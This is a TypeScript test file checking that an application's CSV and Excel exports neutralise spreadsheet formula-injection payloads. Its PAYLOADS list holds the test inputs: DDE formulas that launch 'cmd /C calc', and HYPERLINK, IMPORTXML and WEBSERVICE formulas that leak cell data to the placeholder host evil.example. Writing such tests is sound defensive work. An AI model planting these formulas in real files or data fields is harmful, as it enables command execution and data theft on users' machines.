import { formatMoney } from '@xiaowei/engine';
import { createStore, type Store, SYSTEM_ACTOR } from '@xiaowei/store';
import ExcelJS from 'exceljs';
import type { FastifyInstance, FastifyRequest } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { userScope } from '../src/context/scope.ts';
import { csvText, defuse, defuseValue, looksLikeFormula } from '../src/http/formula-injection.ts';
import { testApp } from './helpers.ts';

/**
 * Spreadsheet formula injection (OWASP "CSV Injection"): the payloads of OWASP's page and the usual
 * variants, defused in every text cell of the CSV and Excel exports, while numbers stay numbers.
 */
const PAYLOADS = [
  `=cmd|' /C calc'!A0`,
  `-1+cmd|' /C calc'!A0`,
  `+1+cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `=10+20+cmd|' /C calc'!A0`,
  `-10+20+cmd|' /C calc'!A0`,
  `+10+20+cmd|' /C calc'!A0`,
  `@SUM(1+9)*cmd|' /C calc'!A0`,
  `=HYPERLINK("http://evil.example/?leak="&A1&A2, "Error: please click for details")`,
  `=DDE("cmd";"/C calc";"!A0")A0`,
  `=1+2";=1+2`,
  `=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")`,
  `=WEBSERVICE("http://evil.example/"&A1)`,
  `-3+3+cmd|' /C calc'!A0`,
  ` =1+1`,
  `＝1+1`,
  `@cmd`,
  `-`,
];
const CONTROL_PAYLOADS = [`\t=1+1`, `\r=1+1`, `\n-3+3+cmd|' /C calc'!A0`, `\t`, `\r`];

describe('defuse', () => {
  it.each([...PAYLOADS, ...CONTROL_PAYLOADS].map((p) => [JSON.stringify(p), p]))('%s starts with a quote', (_, p) => {
    expect(looksLikeFormula(p)).toBe(true);
    expect(defuse(p)).toBe(`'${p}`);
    expect(defuseValue(p)).toBe(`'${p}`);
  });

  it('leaves ordinary text, numbers and other cells alone', () => {
    for (const t of ['青岛海川科技有限公司', 'A-1', '3702', '1-2', "O'Neil", '', '—', '(1)']) expect(defuse(t)).toBe(t);
    expect(defuseValue(-12.5)).toBe(-12.5);
    expect(defuseValue(null)).toBe(null);
    expect(defuseValue(true)).toBe(true);
    const rich = { richText: [{ text: '=1' }, { text: '+1' }] };
    expect(defuseValue(rich)).toEqual({ richText: [{ text: "'=1" }, { text: '+1' }] });
  });

  it('quotes a CSV field with a quote, a separator or a line break after defusing it', () => {
    expect(csvText(`-1+cmd|' /C calc'!A0`)).toBe(`'-1+cmd|' /C calc'!A0`);
    expect(csvText(`=1+2";=1+2`)).toBe(`"'=1+2"";=1+2"`);
    expect(csvText('a;=1+2')).toBe('"a;=1+2"');
    expect(csvText('a\n=1+2')).toBe('"a\n=1+2"');
  });
});

describe('the exports', () => {
  let store: Store;
  let app: FastifyInstance;
  const admin = { 'x-test-user': 'admin' };
  const authenticate = (request: FastifyRequest) =>
    request.headers['x-test-user'] === 'admin' ? userScope({ id: 'test-admin', name: 'admin', role: 'admin' }, { all: true }) : undefined;

  beforeAll(async () => {
    store = await createStore({ url: ':memory:' });
    await store.migrate();
    for (const [i, name] of PAYLOADS.entries()) {
      const id = `FI-${String(i).padStart(3, '0')}`;
      await store.enterprises.create({ id, name, regionCode: '370202', industry: 'C3911' }, { actor: SYSTEM_ACTOR });
      // A loss: a negative amount, which must stay a number.
      await store.enterprises.upsertYear(
        id,
        { year: 2013, employees: 10, revenueFen: 1_000_000, totalAssetsFen: 500_000, totalProfitFen: -123_456 - i },
        { actor: SYSTEM_ACTOR, scope: { all: true } },
      );
    }
    app = await testApp({ store, authenticate });
  }, 120_000);
  afterAll(async () => {
    await app?.close();
    await store?.close();
  });

  it('CSV: every payload defused, negative amounts as numbers', async () => {
    const r = await app.inject({ method: 'GET', url: '/api/v1/exports?format=csv&lang=en&year=2013', headers: admin });
    expect(r.statusCode).toBe(200);
    const lines = r.body
      .replace(/^\uFEFF/, '')
      .trim()
      .split('\r\n');
    const header = lines[0].split(',');
    const profit = header.indexOf('total_profit');
    expect(profit).toBeGreaterThan(0);
    const rows = lines.slice(1);
    expect(rows.length).toBe(PAYLOADS.length);
    for (const [i, p] of PAYLOADS.entries()) {
      const line = rows.find((l) => l.startsWith(`FI-${String(i).padStart(3, '0')},`)) as string;
      const name = line.slice(line.indexOf(',') + 1);
      // The name field, as written: the payload defused (and quoted with its quotes doubled when it has to be).
      expect(name.startsWith(csvText(p.trim())), `${p} → ${name}`).toBe(true);
      expect(name.startsWith("'") || name.startsWith(`"'`)).toBe(true);
      // The loss is a bare number, not a defused text.
      const fields = line.match(/("([^"]|"")*"|[^,]*)(,|$)/g)?.map((f) => f.replace(/,$/, '')) ?? [];
      expect(fields[profit]).toBe(formatMoney(-(123_456 + i)));
    }
  });

  it('Excel: every payload a defused text cell, negative amounts numeric cells', async () => {
    const r = await app.inject({ method: 'GET', url: '/api/v1/exports?format=xlsx&lang=en&year=2013', headers: admin });
    expect(r.statusCode).toBe(200);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(r.rawPayload as unknown as ArrayBuffer);
    const sheet = wb.worksheets[0];
    const header = (sheet.getRow(1).values as unknown[]).map(String);
    const profit = header.indexOf('total_profit');
    const seen = new Map<string, unknown[]>();
    sheet.eachRow((row, n) => {
      if (n > 1) seen.set(String(row.getCell(1).value), row.values as unknown[]);
    });
    for (const [i, p] of PAYLOADS.entries()) {
      const values = seen.get(`FI-${String(i).padStart(3, '0')}`) as unknown[];
      expect(values[2]).toBe(`'${p.trim()}`); // the store trims names
      expect(values[profit]).toBe(-(123_456 + i) / 100);
    }
  });

  it('the tender report: a supplier named like a formula is defused, amounts stay numbers', async () => {
    await store.budgetUnits.create({ id: 'BU-FI', name: '测试单位', regionCode: '370202' }, { actor: SYSTEM_ACTOR });
    await store.tenders.create(
      {
        id: 'TD-FI',
        name: '=HYPERLINK("http://evil.example")',
        tenderDate: '2013-05-10',
        method: 'lowest_price',
        deductionRate: '0.06',
        budgetUnitId: 'BU-FI',
        bids: PAYLOADS.slice(0, 5).map((p, k) => ({
          bidId: `B${k}`,
          supplierName: p,
          priceFen: 100_000 + k,
          declaredSizeClass: 'small' as const,
        })),
      },
      { actor: SYSTEM_ACTOR, scope: { all: true } },
    );
    await store.tenders.evaluate('TD-FI', { actor: SYSTEM_ACTOR, scope: { all: true } });
    const r = await app.inject({ method: 'GET', url: '/api/v1/tenders/TD-FI/report?format=xlsx&lang=en', headers: admin });
    expect(r.statusCode, r.body.slice(0, 300)).toBe(200);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(r.rawPayload as unknown as ArrayBuffer);
    const texts: string[] = [];
    const numbers: number[] = [];
    wb.eachSheet((s) =>
      s.eachRow((row) =>
        row.eachCell((c) => {
          if (typeof c.value === 'string') texts.push(c.value);
          if (typeof c.value === 'number') numbers.push(c.value);
        }),
      ),
    );
    expect(texts.filter((t) => looksLikeFormula(t))).toEqual([]);
    for (const p of PAYLOADS.slice(0, 5)) expect(texts).toContain(`'${p}`);
    expect(numbers).toContain(1000);
  });
});
